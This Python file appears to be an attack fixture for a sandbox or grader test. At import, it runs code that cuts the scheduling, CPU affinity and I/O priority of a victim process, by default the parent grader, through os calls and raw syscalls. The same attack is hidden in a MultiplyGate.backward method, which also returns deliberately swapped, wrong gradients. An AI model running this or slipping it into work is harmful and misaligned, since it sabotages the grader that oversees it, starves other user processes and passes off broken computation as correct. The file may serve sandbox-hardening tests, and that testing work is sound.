"""Attack: slow down other processes of the same user.

The victim is attack.json's "victim" (else the grader). Through os.* and raw
system calls: nice 19 by process, process group and user (setpriority),
SCHED_IDLE (sched_setscheduler, sched_setattr), one CPU (sched_setaffinity),
idle I/O class (ioprio_set by process and by user). Prints SUCCEEDED or blocked.
MultiplyGate.backward repeats the attempt, then returns wrong gradients.
"""
import ctypes
import json
import os

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
NR = {"ioprio_set": 251, "sched_setattr": 314, "setpriority": 141}
try:
    with open("attack.json") as f:
        VICTIM = int(json.load(f)["victim"])
except (OSError, ValueError, KeyError):
    VICTIM = os.getppid()


class SchedAttr(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint32), ("policy", ctypes.c_uint32),
                ("flags", ctypes.c_uint64), ("nice", ctypes.c_int32),
                ("priority", ctypes.c_uint32), ("runtime", ctypes.c_uint64),
                ("deadline", ctypes.c_uint64), ("period", ctypes.c_uint64)]


def tried(name, fn):
    try:
        r = fn()
        if isinstance(r, int) and r < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        print("SUCCEEDED %s" % name)
    except BaseException as exc:
        print("blocked %s: %s" % (name, exc))


def attack():
    tried("setpriority process", lambda: os.setpriority(os.PRIO_PROCESS, VICTIM, 19))
    tried("setpriority group", lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(VICTIM), 19))
    tried("sched_setscheduler", lambda: os.sched_setscheduler(VICTIM, os.SCHED_IDLE,
                                                              os.sched_param(0)))
    tried("sched_setaffinity", lambda: os.sched_setaffinity(VICTIM, {0}))
    attr = SchedAttr(ctypes.sizeof(SchedAttr), 5, 0, 19, 0, 0, 0, 0)  # SCHED_IDLE
    tried("sched_setattr", lambda: libc.syscall(NR["sched_setattr"], VICTIM, ctypes.byref(attr), 0))
    idle = (3 << 13) | 7  # IOPRIO_CLASS_IDLE
    tried("ioprio_set process", lambda: libc.syscall(NR["ioprio_set"], 1, VICTIM, idle))
    tried("ioprio_set group", lambda: libc.syscall(NR["ioprio_set"], 2, os.getpgid(VICTIM), idle))
    tried("setpriority raw group", lambda: libc.syscall(NR["setpriority"], 1, os.getpgid(VICTIM), 19))
    # its own priority stays its own business
    try:
        os.setpriority(os.PRIO_PROCESS, 0, 5)
        print("own nice: %d" % os.getpriority(os.PRIO_PROCESS, 0))
    except OSError as exc:
        print("own nice refused: %s" % exc)


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
